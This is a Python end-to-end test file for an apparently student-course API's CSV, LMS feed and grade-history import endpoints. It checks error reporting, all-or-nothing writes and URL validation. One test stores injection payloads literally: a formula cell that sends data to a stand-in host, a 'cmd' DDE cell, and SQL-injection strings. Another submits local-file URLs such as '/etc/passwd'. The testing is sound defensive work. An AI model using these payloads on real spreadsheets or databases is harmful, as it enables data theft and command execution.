"""CSV uploads, LMS feeds and grade history as JSON, over a real server on SQLite and
PostgreSQL: all or nothing, problems with their line and column, formula cells and
SQL-looking strings stored as they were sent."""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select

from db.models import Assessment, AssessmentFeed, Course, PerformanceRecord, SyncError, Topic
from db.session import session_scope
from tests.e2e.api.conftest import Api
from tests.e2e.api.helpers import FeedServer, canvas_feed, feed_server
from tests.e2e.api.test_ownership import snapshot

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"


def upload(client: httpx.Client, kind: str, data: bytes, name: str = "f.csv") -> httpx.Response:
    return client.post("/v1/import/csv", params={"kind": kind}, files={"file": (name, data)})


def student(api: Api) -> tuple[uuid.UUID, httpx.Client]:
    user_id = api.new_user(timezone="America/Chicago")
    return user_id, api.client(api.token(user_id))


def problems(resp: httpx.Response) -> list[dict[str, Any]]:
    assert resp.status_code == 422, resp.text
    fields: list[dict[str, Any]] = resp.json()["error"]["fields"]
    return fields


def import_examples(client: httpx.Client, *, grades: bool = True) -> list[dict[str, Any]]:
    kinds = ["courses", "topics", "assessments"] + (["grades"] if grades else [])
    reports = []
    for kind in kinds:
        resp = upload(client, kind, (EXAMPLES / f"{kind}.csv").read_bytes(), f"{kind}.csv")
        assert resp.status_code == 200, resp.text
        reports.append(resp.json())
    return reports


def test_the_example_files_import_and_a_second_upload_changes_nothing(api: Api) -> None:
    _user_id, client = student(api)
    with client:
        first = import_examples(client)
        again = import_examples(client)
    assert [(r["kind"], r["created"]) for r in first] == [
        ("courses", 2), ("topics", 9), ("assessments", 6), ("grades", 3),
    ]  # fmt: skip
    assert [r["created"] + r["updated"] for r in again] == [0, 0, 0, 0]


def test_a_bad_file_names_line_and_column_and_writes_nothing(api: Api) -> None:
    _user_id, client = student(api)
    with client:
        import_examples(client, grades=False)
        before = snapshot(api.engine)
        bad = (
            b"course_code,name,difficulty,order_index\n"
            b"MATH 2413,Sequences,easy,7\n"
            b"MATH 2413,Series,brutal,8\n"
            b"MATH 9999,Vectors,easy,9\n"
        )
        found = problems(upload(client, "topics", bad, "topics.csv"))
        header = problems(upload(client, "courses", b"name,code,colour\nA,B,C\n"))
        binary = problems(upload(client, "courses", b"\xff\xfe\x00n\x00a"))
        kind = client.post(
            "/v1/import/csv", params={"kind": "users"}, files={"file": ("x.csv", b"a\n")}
        )
        no_file = client.post("/v1/import/csv", params={"kind": "courses"})
    # Every problem of the file at once: the bad value and the unknown course.
    assert [(p["path"], p["line"]) for p in found] == [("difficulty", 3), ("course_code", 4)]
    assert [p["line"] for p in header] == [1, 1] and "colour" in header[1]["reason"]
    assert "UTF-8" in binary[0]["reason"]
    assert [p["path"] for p in problems(kind)] == ["query.kind"]
    assert [p["path"] for p in problems(no_file)] == ["body.file"]
    assert snapshot(api.engine) == before


def test_a_row_that_fits_no_data_fails_the_whole_file(api: Api) -> None:
    _user_id, client = student(api)
    with client:
        import_examples(client, grades=False)
        before = snapshot(api.engine)
        unknown = b"course_code,name\nMATH 2413,Sequences\nMATH 9999,Vectors\nMATH 2413,Series\n"
        found = problems(upload(client, "topics", unknown, "topics.csv"))
    assert [(p["path"], p["line"]) for p in found] == [("course_code", 3)]
    assert "MATH 9999" in found[0]["reason"]
    assert snapshot(api.engine) == before  # Sequences (line 2) was not kept either


def test_an_upload_over_the_body_limit_is_413(api: Api) -> None:
    _user_id, client = student(api)
    big = b"name,code,semester,start_date,end_date\n" + b"x" * api.settings.api_max_body_bytes
    with client:
        resp = upload(client, "courses", big)
    assert resp.status_code == 413 and resp.json()["error"]["code"] == "payload_too_large"


def test_formula_cells_and_sql_looking_strings_are_stored_literally(api: Api) -> None:
    user_id, client = student(api)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    sql = "Robert'); DROP TABLE courses;--"
    data = (
        "name,code,semester,start_date,end_date,description\n"
        f"\"{formula.replace(chr(34), chr(34) * 2)}\",@SUM(A1),\"1' OR '1'='1\","
        f'2026-08-24,2026-12-11,"{sql}"\n'
    ).encode()
    with client:
        resp = upload(client, "courses", data)
        assert resp.status_code == 200, resp.text
        [course] = client.get("/v1/courses").json()["items"]
        topics = upload(client, "topics", b"course_code,name\n@SUM(A1),+cmd|' /C calc'!A0\n")
        assert topics.status_code == 200, topics.text
        [topic] = client.get(f"/v1/courses/{course['id']}/topics").json()["items"]
    assert course["name"] == formula and course["code"] == "@SUM(A1)"
    assert course["semester"] == "1' OR '1'='1"
    assert course["description"] == sql
    assert topic["name"] == "+cmd|' /C calc'!A0"
    with session_scope(api.engine) as session:
        stored = session.scalars(select(Course).where(Course.user_id == user_id)).one()
        assert stored.name == formula and stored.description == sql
        assert session.scalars(select(Topic).where(Topic.course_id == stored.id)).one().name == (
            "+cmd|' /C calc'!A0"
        )


@pytest.fixture(scope="module")
def lms() -> Iterator[FeedServer]:
    with feed_server() as server:
        yield server


def test_an_lms_feed_is_registered_imported_and_refreshed(api: Api, lms: FeedServer) -> None:
    user_id, client = student(api)
    due = datetime.now(UTC) + timedelta(days=14)
    path = f"/feeds/{uuid.uuid4().hex}.ics"
    lms.files[path] = canvas_feed(
        [
            ("event-assignment-1", "Lab 5: Trees [CSE 110 Fall 2026]", due),
            ("event-assignment-2", "Quiz 3 [MATH-2413-001]", due + timedelta(days=1)),
        ]
    )
    secret_url = lms.url(path) + "?token=s3cr3t-feed-token"
    with client:
        import_examples(client, grades=False)
        made = client.post("/v1/import/lms", json={"label": "Canvas", "url": secret_url})
        assert made.status_code == 201, made.text
        feed = made.json()
        assert feed["report"]["created"] == 2 and feed["host"].startswith("http://127.0.0.1")
        assert "s3cr3t" not in made.text
        lms.files[path] = canvas_feed([("event-assignment-1", "Lab 5: Trees [CSE 110]", due)])
        again = client.post(f"/v1/import/lms/{feed['id']}/refresh")
        assert again.status_code == 200, again.text
    assert again.json()["report"]["cancelled"] == 1
    with session_scope(api.engine) as session:
        feed_id = uuid.UUID(feed["id"])
        rows = session.scalars(select(Assessment).where(Assessment.feed_id == feed_id))
        assert sorted((a.name, a.status.value) for a in rows) == [
            ("Lab 5: Trees", "active"), ("Quiz 3", "cancelled"),
        ]  # fmt: skip
        stored = session.get(AssessmentFeed, feed_id)
        assert stored is not None and stored.user_id == user_id and stored.url == secret_url


def test_a_feed_that_cannot_be_imported_is_not_kept(api: Api, lms: FeedServer) -> None:
    user_id, client = student(api)
    with client:
        before = snapshot(api.engine)
        missing = client.post("/v1/import/lms", json={"url": lms.url("/gone.ics")})
        local = client.post("/v1/import/lms", json={"url": "/etc/passwd.ics"})
        ftp = client.post("/v1/import/lms", json={"url": "file:///etc/hosts"})
    assert "HTTP 404" in problems(missing)[0]["reason"]
    assert [p["path"] for p in problems(missing)] == ["body.url"]
    assert [p["path"] for p in problems(local)] == ["body.url"]
    assert "http" in problems(ftp)[0]["reason"]
    assert snapshot(api.engine) == before
    with session_scope(api.engine) as session:
        assert session.scalars(select(SyncError).where(SyncError.user_id == user_id)).all() == []


def test_grades_as_json_follow_the_csv_rules(api: Api) -> None:
    user_id, client = student(api)
    future = (datetime.now(UTC) + timedelta(days=3)).date().isoformat()
    past = "2026-09-18"
    with client:
        import_examples(client, grades=False)
        courses = {c["code"]: c["id"] for c in client.get("/v1/courses").json()["items"]}
        before = snapshot(api.engine)
        bad = client.post(
            "/v1/import/grades",
            json={
                "course_id": courses["MATH 2413"],
                "grades": [
                    {"assessment_name": "Quiz 1", "score": 15, "max_score": 20, "date": past},
                    {"assessment_name": "Quiz 1", "score": 25, "max_score": 20, "date": future},
                    {"assessment_name": "Quiz 9", "score": 1, "max_score": 2, "date": past},
                ],
            },
        )  # fmt: skip
        json_problems = {(p["path"], p["reason"]) for p in problems(bad)}
        # Rows that parse are then checked against the student's data, as a file's are.
        unknown = client.post(
            "/v1/import/grades",
            json={"course_id": courses["MATH 2413"], "grades": [
                {"assessment_name": "Quiz 1", "score": 15, "max_score": 20, "date": past},
                {"assessment_name": "Quiz 9", "score": 1, "max_score": 2, "date": past}]},
        )  # fmt: skip
        assert snapshot(api.engine) == before
        row = f"MATH 2413,Quiz 1,25,20,{future}\n"
        csv_bad = upload(
            client, "grades", b"course_code,assessment_name,score,max_score,date\n" + row.encode()
        )
        csv_reasons = {p["reason"] for p in problems(csv_bad)}
        history = {
            "course_id": courses["MATH 2413"],
            "grades": [
                {
                    "assessment_name": "Quiz 1", "score": 15, "max_score": 20, "date": "2026-09-18",
                    "topics": {"Limits and Continuity": {"correct": 3, "total": 4}},
                },
                {
                    "assessment_name": "Homework 3", "score": 82, "max_score": 100,
                    "date": "2026-10-02T22:10", "topics": ["Derivatives", "Chain Rule"],
                },
            ],
        }  # fmt: skip
        good = client.post("/v1/import/grades", json=history)
        assert good.status_code == 200, good.text
        again = client.post("/v1/import/grades", json=history)
        clash = client.post(
            "/v1/import/grades",
            json={"course_id": courses["MATH 2413"], "grades": [
                {"assessment_name": "Lab 4", "score": 9, "max_score": 10, "date": "2026-10-09",
                 "course_code": "CSE 110"}]},
        )  # fmt: skip
    # Every problem in one pass: the bad row's and the unknown assessment of the next one.
    assert {path for path, _ in json_problems} == {
        "body.grades.1.score",
        "body.grades.1.date",
        "body.grades.2.assessment_name",
    }
    assert {reason for path, reason in json_problems if ".1." in path} == csv_reasons
    assert [p["path"] for p in problems(unknown)] == ["body.grades.1.assessment_name"]
    assert good.json()["created"] == 2 and again.json()["unchanged"] == 2
    assert [p["path"] for p in problems(clash)] == ["body.grades.0.course_code"]
    with session_scope(api.engine) as session:
        records = session.scalars(
            select(PerformanceRecord).where(PerformanceRecord.user_id == user_id)
        ).all()
        quiz = next(r for r in records if r.score == 15)
        assert list(quiz.topic_breakdown.values()) == [{"correct": 3, "total": 4}]
